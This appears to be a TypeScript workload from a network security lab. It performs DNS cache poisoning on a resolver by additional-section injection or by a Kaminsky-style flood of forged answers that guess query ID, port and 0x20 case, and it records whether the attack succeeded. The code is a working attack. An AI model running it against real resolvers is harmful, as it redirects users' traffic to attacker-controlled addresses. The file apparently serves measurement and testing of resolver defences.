import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { callControl } from '../common/control.js';
import { mulberry32 } from '../common/random.js';
import { log, record } from '../common/records.js';
import type { ObservedQuery } from '../dns/attack/observed.js';
import { forgedResponse, guess, guessCase, learn, type Knowledge } from '../dns/attack/forge.js';
import { stubQuery } from '../dns/stub.js';
import { numberArg, stringArg, type Workload } from './workload.js';

// Cache poisoning, run on a dns-attacker node against one resolver (docs/dns-security.md).
// method=additional: ask the resolver for a name in the attacker's zone, whose answer carries
//   `victim A fake` in its additional section; then ask for the victim.
// method=spoof (Kaminsky): learn the resolver's source port and ID through two queries for
//   names in the attacker's own zone; then, per attempt, make the resolver ask `authority` for
//   a random name under `zone` and flood it with forged answers from the authority's address
//   (port 53), `rate` per second for `window` ms, guessing ID and port; then ask for the victim.
// Args: resolver, method, victim, zone, authority (node), probe (the attacker's zone), fake
// (default this node's address), rate (pps, 2000), attempts (20), window (ms, 400), seed.
// Records: dns_poisoned (0/1), dns_poison_attempts, dns_forged_packets, dns_forged_rate (pps).

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

export const dnsPoison: Workload = {
  name: 'dns-poison',
  async run(args) {
    const resolver = address(stringArg(args, 'resolver'));
    const victim = stringArg(args, 'victim').toLowerCase();
    const probeZone = stringArg(args, 'probe').toLowerCase();
    const method = args.method ?? 'spoof';
    const random = mulberry32(numberArg(args, 'seed', 1));
    const label = () => Math.floor(random() * 2 ** 32).toString(36);
    const fake = typeof args.fake === 'string' ? address(args.fake) : ownAddress();
    const poisoned = async () => {
      const r = await stubQuery({ address: resolver, port: 53 }, victim, 'A', { rd: false, timeoutMs: 2000, trace: false }).catch(() => undefined);
      return (r?.response.answers ?? []).some((a) => a.type === 'A' && a.data === fake);
    };
    if (method === 'additional') {
      await stubQuery({ address: resolver, port: 53 }, `${label()}.${probeZone}`, 'A', { rd: true, timeoutMs: 3000, trace: false }).catch(() => undefined);
      const yes = await poisoned();
      record('dns_poisoned', yes ? 1 : 0, 'bool', { peer: stringArg(args, 'resolver'), detail: `method=additional victim=${victim}` });
      log(`dns-poison: additional-section attack on ${resolver}: ${yes ? 'POISONED' : 'not poisoned'}`);
      return;
    }
    if (method !== 'spoof') throw new Error(`argument "method" must be spoof or additional, found ${JSON.stringify(method)}`);
    const zone = stringArg(args, 'zone').toLowerCase();
    const authority = address(stringArg(args, 'authority'));
    const rate = numberArg(args, 'rate', 2000);
    const attempts = numberArg(args, 'attempts', 20);
    const windowMs = numberArg(args, 'window', 400);
    const probe = async (): Promise<ObservedQuery | undefined> => {
      const name = `${label()}.${probeZone}`;
      await stubQuery({ address: resolver, port: 53 }, name, 'A', { rd: true, timeoutMs: 3000, trace: false }).catch(() => undefined);
      const { queries } = (await callControl({ op: 'dns-observed' })) as { queries: ObservedQuery[] };
      return queries.filter((q) => q.client === resolver && q.name.toLowerCase() === name).pop();
    };
    // Warm the resolver up to the target zone, so each trigger goes straight to its server.
    await stubQuery({ address: resolver, port: 53 }, `${label()}.${zone}`, 'A', { rd: true, timeoutMs: 3000, trace: false }).catch(() => undefined);
    const first = await probe();
    const second = await probe();
    if (!first || !second) throw new Error(`the resolver ${resolver} never asked this node's zone ${probeZone}: is ${probeZone} delegated to the attacker?`);
    let know: Knowledge = learn(first, second);
    log(`dns-poison: resolver ${resolver}: ports ${first.port},${second.port} (${know.fixedPort ? 'fixed' : 'random'}), IDs ${first.id},${second.id} (${know.sequentialIds ? 'sequential' : 'random'}), names ${know.mixedCase ? 'in mixed case (0x20)' : 'as asked'}`);
    const device = interfaceOf(ownAddress());
    execFileSync('ip', ['addr', 'add', `${authority}/32`, 'dev', device]);
    const forger = dgram.createSocket('udp4');
    let sent = 0;
    let tried = 0;
    let success = false;
    const started = Date.now();
    try {
      await new Promise<void>((resolve, reject) => { forger.once('error', reject); forger.bind(53, authority, () => resolve()); });
      for (tried = 1; tried <= attempts && !success; tried++) {
        const seen = await probe();
        if (seen) know = { ...know, lastId: seen.id, lastPort: seen.port };
        const trigger = `${label()}.${zone}`;
        const asker = dgram.createSocket('udp4');
        asker.send(triggerQuery(trigger, random), 53, resolver, () => asker.close());
        sent += await flood(forger, resolver, rate, windowMs, (k) => {
          const g = guess(k, know, random);
          return { bytes: forgedResponse({ trigger: guessCase(trigger, know, random), victim, fake, ttl: 3600 }, g.id), port: g.port };
        });
        await sleep(50);
        success = await poisoned();
      }
    } finally {
      forger.close();
      execFileSync('ip', ['addr', 'del', `${authority}/32`, 'dev', device]);
    }
    tried--;
    const peer = stringArg(args, 'resolver');
    const detail = `method=spoof rate=${rate} window=${windowMs} ids=${know.sequentialIds ? 'sequential' : 'random'} port=${know.fixedPort ? 'fixed' : 'random'} case=${know.mixedCase ? '0x20' : 'plain'}`;
    record('dns_poisoned', success ? 1 : 0, 'bool', { peer, detail });
    record('dns_poison_attempts', tried, 'count', { peer, detail });
    record('dns_forged_packets', sent, 'count', { peer, detail });
    record('dns_forged_rate', Math.round(sent / Math.max(0.001, (tried * windowMs) / 1000)), 'pps', { peer, detail });
    log(`dns-poison: ${success ? 'POISONED' : 'not poisoned'} ${victim} at ${resolver} after ${tried} attempts, ${sent} forged packets in ${Date.now() - started} ms`);
  },
};

/** Sends `rate` packets per second for `ms` in 5 ms batches; returns how many went. */
async function flood(socket: dgram.Socket, to: string, rate: number, ms: number, packet: (k: number) => { bytes: Buffer; port: number }): Promise<number> {
  const end = Date.now() + ms;
  const start = Date.now();
  let k = 0;
  while (Date.now() < end) {
    const due = Math.floor(((Date.now() - start + 5) * rate) / 1000);
    for (; k < due; k++) {
      const p = packet(k);
      socket.send(p.bytes, p.port, to);
    }
    await sleep(5);
  }
  return k;
}

function triggerQuery(name: string, random: () => number): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(Math.floor(random() * 0x10000), 0);
  header.writeUInt16BE(0x0100, 2); // RD
  header.writeUInt16BE(1, 4);
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 1, 0, 1])]);
}

/** A lab node's address from /etc/hosts, or the address itself. */
function address(nodeOrAddress: string): string {
  if (net.isIPv4(nodeOrAddress)) return nodeOrAddress;
  for (const line of readFileSync('/etc/hosts', 'utf8').split('\n')) {
    const [a, ...names] = line.replace(/#.*/, '').trim().split(/\s+/);
    if (a && net.isIPv4(a) && names.includes(nodeOrAddress)) return a;
  }
  throw new Error(`"${nodeOrAddress}" is neither an IPv4 address nor a lab node in /etc/hosts`);
}

function ownAddress(): string {
  const hostname = readFileSync('/etc/hostname', 'utf8').trim();
  return address(hostname);
}

function interfaceOf(addr: string): string {
  const line = execFileSync('ip', ['-o', '-4', 'addr', 'show']).toString().split('\n').find((l) => l.includes(` ${addr}/`));
  const device = line?.split(/\s+/)[1];
  if (!device) throw new Error(`no interface holds ${addr}`);
  return device;
}
